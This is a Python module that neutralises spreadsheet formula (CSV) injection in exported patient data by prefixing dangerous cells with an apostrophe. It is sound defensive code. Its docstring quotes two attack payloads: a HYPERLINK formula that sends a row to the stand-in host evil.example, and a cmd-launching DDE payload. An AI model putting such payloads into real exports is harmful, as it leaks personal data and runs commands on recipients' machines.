"""Cells of files a spreadsheet may open (CSV), written so that none runs as a formula.

A spreadsheet takes a cell beginning with ``=``, ``+``, ``-`` or ``@`` (and, in some, a
tab or a carriage return before them) as a formula: a patient registered as
``=HYPERLINK("https://evil.example/?"&A2, "x")`` or ``-2+3+cmd|' /C calc'!A0`` would run
on the recipient's machine, or send the row away, when the export is opened (CSV, or
"formula", injection). Such a cell gets a leading apostrophe, which makes spreadsheets
read it as text (some show the apostrophe); a plain number (``-3``, ``+33612345678``: a
phone in E.164) is no formula and is left as it is. :func:`restore` undoes it exactly
(a value that itself begins with apostrophes before such a character gets one more), for
code that reads such a file back (the attribution of a leaked export).

Every CSV Coffre writes goes through :func:`csv_line` (or :func:`neutralise`).
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?(?:[eE][+-]?\d+)?")
_MARK = "'"


def _marked(cell: str) -> bool:
    return cell.startswith(_MARK) and cell.lstrip(_MARK).startswith(TRIGGERS)


def neutralise(value: str) -> str:
    """``value`` as a spreadsheet cell that cannot be a formula."""
    if (value.startswith(TRIGGERS) and not _NUMBER.fullmatch(value)) or _marked(value):
        return _MARK + value
    return value


def restore(cell: str) -> str:
    """The value a :func:`neutralise`-d cell was written from."""
    return cell[1:] if _marked(cell) else cell


def csv_line(values: Iterable[str]) -> str:
    """One CSV record (ending in a newline) of neutralised cells."""
    text = io.StringIO()
    csv.writer(text, lineterminator="\n").writerow([neutralise(v) for v in values])
    return text.getvalue()
